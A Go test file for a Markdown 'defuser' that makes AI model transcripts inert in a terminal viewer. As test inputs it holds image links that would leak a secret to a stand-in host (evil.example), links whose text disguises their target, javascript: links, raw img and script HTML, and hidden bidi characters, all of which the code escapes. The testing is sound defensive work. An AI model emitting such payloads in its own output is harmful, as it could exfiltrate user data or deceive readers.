package terminal

import (
	"bytes"
	"strings"
	"testing"

	"github.com/parleybus/parley/internal/events"
)

func TestMarkdownOfOthersFetchesNothingAndShowsItsTargets(t *testing.T) {
	for _, tc := range []struct{ name, in, want string }{
		{"an image", "![a chart](https://evil.example/x?q=secret)", "a chart (image: <https://evil.example/x?q=secret>)"},
		{"an image without a text", "![](http://evil.example/x)", "(image: <http://evil.example/x>)"},
		{"an image by reference", "![a][b]\n\n[b]: http://evil.example/x", "!\\[a]\\[b]\n\n\\[b]: http://evil.example/x"},
		{"an image that is a link", "[![a](http://x.example/i)](http://y.example/)", "\\[a (image: <http://x.example/i>)](http://y.example/)"},
		{"an image over two lines", "![a\nb](http://evil.example/x)", "!\\[a\nb](http://evil.example/x)"},
		{"an image in data", "![a](data:image/svg+xml;base64,AAAA)", "!\\[a](data:image/svg+xml;base64,AAAA)"},
		{"a link that says something else", "[https://bank.example](https://evil.example/)", "https://bank.example (<https://evil.example/>)"},
		{"a link that says its target", "[https://a.example/](https://a.example/) [a.example](https://a.example/)", "<https://a.example/> <https://a.example/>"},
		{"a link with a title", `[a](https://a.example/ "bank")`, "a (<https://a.example/>)"},
		{"a link to a script", "[a](javascript:alert(1)) <javascript:alert(1)>", "\\[a](javascript:alert(1)) \\<javascript:alert(1)>"},
		{"a link with code", "[`a`](https://evil.example/)", "\\[`a`](https://evil.example/)"},
		{"an escaped bracket", `\[a](b) \\[a](b)`, `\[a](b) \\\[a](b)`},
		{"HTML", "a <img src=http://evil.example/x> <b>c</b> <!-- d -->", "a \\<img src=http://evil.example/x> \\<b>c\\</b> \\<!-- d -->"},
		{"a block of HTML", "<div>\n<script src=x></script>\n</div>", "\\<div>\n\\<script src=x>\\</script>\n\\</div>"},
		{"a backtick in HTML", "<a href=\"`\">` ![x](http://evil.example/)", "\\<a href=\"`\">` x (image: <http://evil.example/>)"},
		{"references to hidden characters", "a&#x202e;b &#8203; &rlm; &zwj; &#27; &amp; &lt;b> `&rlm;`", "a\\&#x202e;b \\&#8203; \\&rlm; \\&zwj; \\&#27; &amp; &lt;b> `&rlm;`"},
		{"an address with parameters", "[a](https://a.example/?b=c&d=e) [f](https://a.example/&rlm;)", "a (<https://a.example/?b=c&d=e>) f (\\<https://a.example/\\&rlm;>)"},
		{"code stays", "`![a](http://x)` and\n\n```html\n<img src=x>\n```\n\n    [a](b) <b>\n", "`![a](http://x)` and\n\n```html\n<img src=x>\n```\n\n    [a](b) <b>\n"},
		{"an address stays", "<https://a.example:80/b?c> <ann@a.example>", "<https://a.example:80/b?c> <ann@a.example>"},
		{"other Markdown stays", "# a\n\n- [ ] b\n- [x] *c* a[0] < 3 && d <= 4\n\n> e\n\n| a | b |\n| - | - |\n", "# a\n\n- [ ] b\n- [x] *c* a[0] < 3 && d <= 4\n\n> e\n\n| a | b |\n| - | - |\n"},
		{"what was escaped before", "a <U+202E> b", "a <U+202E> b"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, ok := newDefuser().inert(tc.in)
			if got != tc.want || !ok {
				t.Errorf("got %q %v, want %q", got, ok, tc.want)
			}
		})
	}
}

func TestPartsThatAreDangerousTogetherAreShownAsCode(t *testing.T) {
	said := func(parts ...string) TranscriptEntry {
		m := events.Message{Role: events.RoleAssistant, Model: "<img src=x>"}
		for _, text := range parts {
			m.Parts = append(m.Parts, events.Part{Kind: events.PartText, Text: text})
		}
		return TranscriptEntry{Message: m}
	}
	var out bytes.Buffer
	// Behind the item the fence belongs to the list, and ends with it.
	entries := []TranscriptEntry{said("- item", "  ```\n![x](http://evil.example/)\n  ```\n")}
	if err := Transcript(&out, Profile{}, FormatMarkdown, "", entries); err != nil {
		t.Fatal(err)
	}
	if _, ok := newDefuser().inspect(out.String()); !ok || !strings.Contains(out.String(), "![x](http://evil.example/)") {
		t.Errorf("got\n%s", out.String())
	}
}

// FuzzInert: a viewer of a transcript fetches nothing and follows no hidden link,
// whatever is in the texts, alone and together.
func FuzzInert(f *testing.F) {
	f.Add("![a](http://x)", "[b]: http://y\n<b>")
	f.Add("- item", "  ```\n![x](http://evil.example/)\n  ```\n")
	f.Add("`<a href=\"`\">`", "[a]\\[b](c)\n\n    ![d](e)")
	f.Add("> ~~~\n![a](b)\n", "<!--\n[a][b]")
	f.Fuzz(func(t *testing.T, first, second string) {
		m := events.Message{Role: events.RoleAssistant, Parts: []events.Part{{Kind: events.PartText, Text: first}, {Kind: events.PartText, Text: second}, {Kind: events.PartReasoning, Text: first}}}
		var out bytes.Buffer
		if err := Transcript(&out, Profile{}, FormatMarkdown, "c", []TranscriptEntry{{Message: m}}); err != nil {
			t.Fatal(err)
		}
		if _, ok := newDefuser().inspect(out.String()); !ok {
			t.Fatalf("%q and %q became\n%s", first, second, out.String())
		}
	})
}

// TestNoTextKeepsTheParserBusy: what costs the parser by the square of its length is
// not parsed.
func TestNoTextKeepsTheParserBusy(t *testing.T) {
	const size = 1 << 15
	for piece, code := range map[string]bool{
		"[": true, "![": true, "[a](": true, "[a]: b\n": true, "\\[": true, "[a]: ": true, "> ": true, "> - ": true, "1. > ": true,
		"&": false, "<": false, "](": false, "<https://": false, "&#x202e;": false, "*": false, "- ": false, "<!--": false, "_a": false, "a\n> ": false,
	} {
		text := strings.Repeat(piece, size/len(piece))
		var out bytes.Buffer
		entry := TranscriptEntry{Message: events.Message{Role: events.RoleAssistant, Parts: []events.Part{{Kind: events.PartText, Text: text}}}}
		if err := Transcript(&out, Profile{}, FormatMarkdown, "", []TranscriptEntry{entry}); err != nil {
			t.Fatal(err)
		}
		if fenced := strings.Contains(out.String(), "```"); fenced != code || out.Len() < len(text) {
			t.Errorf("%q repeated became %d bytes, as code: %t", piece, out.Len(), fenced)
		}
	}
}
